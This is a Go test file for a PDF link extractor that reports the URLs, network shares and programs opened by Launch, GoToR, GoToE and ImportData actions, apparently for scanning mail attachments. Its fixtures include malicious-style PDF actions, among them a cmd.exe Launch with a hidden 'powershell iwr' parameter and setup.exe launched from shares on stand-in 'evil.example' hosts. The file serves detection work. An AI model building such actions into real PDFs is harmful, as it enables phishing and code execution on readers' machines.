package links

import (
	"slices"
	"strings"
	"testing"
	"time"
)

// TestPDFFileActions: the URL or share path a Launch, GoToR, GoToE or
// ImportData action opens is a link; a Launch of a local program is
// reported by its name; a local document, a relative file and a longer
// name are not.
func TestPDFFileActions(t *testing.T) {
	const head = "%PDF-1.7\n"
	for _, tc := range []struct {
		name, pdf string
		want      []string // "prog:NAME" for a program
	}{
		{"GoToR to a URL", head + "<< /S /GoToR /F << /FS /URL /F (https://remote.example/doc.pdf) >> /D [0 /Fit] >>", []string{"https://remote.example/doc.pdf"}},
		{"GoToR to a share", head + `<< /S /GoToR /F (\\\\203.0.113.5\\docs\\invoice.pdf) >>`, []string{"file://203.0.113.5/docs/invoice.pdf"}},
		{"GoToR, /F before /S", head + `<< /F (\\\\files.evil.example@SSL\\dav\\x.pdf) /S /GoToR >>`, []string{"file://files.evil.example/dav/x.pdf"}},
		{"GoToE to a URL", head + "<</S/GoToE/F(https://e.example/outer.pdf)/T<</R/C/N(x)>>>>", []string{"https://e.example/outer.pdf"}},
		{"ImportData", head + "<< /S /ImportData /F (https://fdf.example/data.fdf) >>", []string{"https://fdf.example/data.fdf"}},
		{"Launch of cmd.exe with parameters", head + "<< /Type /Action /S /Launch /Win << /F (cmd.exe) /P (/c powershell -w hidden iwr) /O (open) >> >>", []string{"prog:cmd.exe"}},
		{"Launch of a script by path", head + `<< /S /Launch /F (C:\\Users\\Public\\run.vbs) >>`, []string{"prog:run.vbs"}},
		{"Launch of powershell without extension", head + "<< /S /Launch /F (PowerShell) >>", []string{"prog:PowerShell"}},
		{"Launch of a document with parameters", head + "<< /S /Launch /Win << /F (notes.txt) /P (x) >> >>", []string{"prog:notes.txt"}},
		{"Launch of a URL", head + "<< /S /Launch /F (https://launch.example/x) >>", []string{"https://launch.example/x"}},
		{"Launch of a share", head + `<< /S /Launch /F (\\\\fs.evil.example\\pub\\setup.exe) >>`, []string{"file://fs.evil.example/pub/setup.exe"}},
		{"Launch of a share as a device path", head + `<< /S /Launch /F (\\\\?\\UNC\\fs.evil.example\\pub\\setup.exe) >>`, []string{"file://fs.evil.example/pub/setup.exe"}},
		{"GoToR to a share as a device path with slashes", head + "<< /S /GoToR /F (//./unc/203.0.113.5/docs/x.pdf) >>", []string{"file://203.0.113.5/docs/x.pdf"}},
		{"Launch of a local program as a device path", head + `<< /S /Launch /F (\\\\?\\C:\\Windows\\System32\\cmd.exe) >>`, []string{"prog:cmd.exe"}},
		{"Launch of a local document", head + "<< /S /Launch /F (manual.pdf) >>", nil},
		{"GoToR to a local document", head + "<< /S /GoToR /F (chapter2.pdf) /D [0 /Fit] >>", nil},
		{"GoToR to a drive path", head + "<< /S /GoToR /F (C:/docs/x.pdf) >>", nil},
		{"a longer name", head + "<< /S /LaunchX /F (cmd.exe) >>", nil},
		{"the next object's /F is not the action's", head + "<< /S /Launch >>\n<< /F (cmd.exe) >>", nil},
		{"a >> inside a string does not end the dictionary", head + "<< /S /GoToR /D (>>) /F (https://after.example/) >>", []string{"https://after.example/"}},
		{"Launch, /F after a long /P string", head + "<< /S /Launch /Win << /P (" + strings.Repeat("A", 1100) + ") /F (cmd.exe) >> >>", []string{"prog:cmd.exe"}},
		{"Launch, white space before its /Win", head + "<< /S /Launch" + strings.Repeat(" ", 1100) + "/Win << /F (cmd.exe) /P (/c calc) >> >>", []string{"prog:cmd.exe"}},
		{"Launch, /F long before /S", head + "<< /F (cmd.exe)" + strings.Repeat(" ", 1100) + "/S /Launch >>", []string{"prog:cmd.exe"}},
		{"Launch, a dictionary between /F and /S", head + "<< /F (cmd.exe) /Next << /S /GoTo /D [0 /Fit] >> /S /Launch >>", []string{"prog:cmd.exe"}},
		{"Launch of a file specification's /UF", head + "<< /S /Launch /F << /Type /Filespec /UF (cmd.exe) >> >>", []string{"prog:cmd.exe"}},
		{"GoToR, a harmless /F beside a /UF", head + "<< /S /GoToR /F << /Type /Filespec /F (a.pdf) /UF (https://uf.example/x.pdf) >> >>", []string{"https://uf.example/x.pdf"}},
		{"GoToR, /F by reference", head + "1 0 obj << /S /GoToR /F 2 0 R >> endobj\n2 0 obj (https://ref.example/x.pdf) endobj", []string{"https://ref.example/x.pdf"}},
		{"an unclosed Launch ends at endobj", head + "1 0 obj << /S /Launch endobj\n2 0 obj << /F (cmd.exe) >> endobj", nil},
		{"Launch of a document whose path holds /P", head + "<< /S /Launch /F (D:/P/manual.pdf) >>", nil},
		{"in an object stream", head + objStm("7 0 << /S /GoToR /F (https://packed-remote.example/) >>", "/FlateDecode"), []string{"https://packed-remote.example/"}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			var got []string
			for _, u := range pdfURIs([]byte(tc.pdf), 1<<20, 10, nil) {
				if u.program {
					got = append(got, "prog:"+u.uri)
				} else {
					got = append(got, u.uri)
				}
			}
			if !slices.Equal(got, tc.want) {
				t.Errorf("pdfURIs = %q, want %q", got, tc.want)
			}
		})
	}
}

// TestPDFLaunchExtracted: an attached PDF's Launch of a program is
// Extracted.Launch, its GoToR share is a link with its host (opened as a
// share: FlagAppScheme), and a PDF without either gives neither.
func TestPDFLaunchExtracted(t *testing.T) {
	doc := "%PDF-1.7\n1 0 obj << /Type /Catalog /OpenAction << /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >> >> endobj\n" +
		`2 0 obj << /Subtype /Link /A << /S /GoToR /F (\\\\198.51.100.7\\s\\a.pdf) >> >> endobj` + "\n"
	x, err := ExtractAll(pdfMail([]byte(doc)), Options{})
	if err != nil || x.Launch != "cmd.exe" || len(x.Links) != 1 {
		t.Fatalf("ExtractAll = %d links, Launch %q, %v; want one link and cmd.exe", len(x.Links), x.Launch, err)
	}
	if l := x.Links[0]; l.Host != "198.51.100.7" || l.Kind != KindPDF || !l.Flags.Has(FlagAppScheme) || !l.Flags.Has(FlagIPLiteral) {
		t.Errorf("link = %s host %s kind %s flags %v; want a PDF share link to 198.51.100.7", l.URL, l.Host, l.Kind, l.Flags)
	}
	x, _ = ExtractAll(pdfMail([]byte("%PDF-1.7\n<< /S /GoToR /F (part2.pdf) >>")), Options{})
	if x.Launch != "" || len(x.Links) != 0 {
		t.Errorf("a local GoToR: Launch %q, %d links; want none", x.Launch, len(x.Links))
	}
}

// TestPDFFileActionsLinearTime: action names whose dictionaries never
// close, or that stand close together, are read about once each.
func TestPDFFileActionsLinearTime(t *testing.T) {
	for _, unit := range []string{"/Launch ", "<< /S /GoToR /F (", "/GoToE << ", "<< /S /Launch /Win << /P (" + strings.Repeat("<<", 200) + ") ",
		strings.Repeat(">>", 200) + " /Launch ", "<< /S /Launch endobj ", "<< /UF (a) /F (b) /GoToR ", "/ImportData /F 1 0 R "} {
		doc := []byte("%PDF-1.7\n" + strings.Repeat(unit, (1<<20)/len(unit)))
		start := time.Now()
		fileActions(doc, -1, nil, 1<<20, nil)
		if d := time.Since(start); d > 2*time.Second {
			t.Errorf("fileActions of 1 MB of %q: %v", unit, d)
		}
	}
}

func FuzzPDFFileActions(f *testing.F) {
	f.Add([]byte("%PDF-1.7\n<< /S /Launch /Win << /F (cmd.exe) /P (/c x) >> >>"))
	f.Add([]byte(`%PDF-1.7` + "\n" + `<< /F (\\\\h.example\\s) /S /GoToR >> << /S /GoToE /D (>>) /F (https://e.example/) >>`))
	f.Add([]byte("%PDF-1.7\n" + objStm("7 0 << /S /ImportData /F (https://i.example/) >>", "/FlateDecode")))
	f.Add([]byte(`%PDF-1.7` + "\n" + `<< /S /Launch /F (\\\\?\\UNC\\h.example\\s\\x.exe) >>`))
	f.Fuzz(func(t *testing.T, b []byte) {
		for _, u := range fileActions(b, -1, nil, 5, nil) {
			if u.off < 0 || u.off > len(b) || u.uri == "" {
				t.Fatalf("target %q at %d of %d bytes", u.uri, u.off, len(b))
			}
			if u.program && strings.ContainsAny(u.uri, `\/`) {
				t.Fatalf("program %q keeps its path", u.uri)
			}
		}
	})
}
